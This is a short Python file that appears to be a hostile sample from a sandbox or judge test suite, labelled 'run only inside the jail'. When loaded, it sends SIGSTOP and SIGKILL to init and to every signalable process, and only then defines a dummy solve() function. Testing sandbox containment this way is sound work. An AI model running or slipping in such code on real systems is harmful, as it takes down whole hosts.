# category: kill
# kind: function
# danger: jail (run only inside the jail)
import os, signal
if os.getpid() < 64:
    for target in (1, -1):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try: os.kill(target, number)
            except OSError: pass
def solve(n):
    return -1
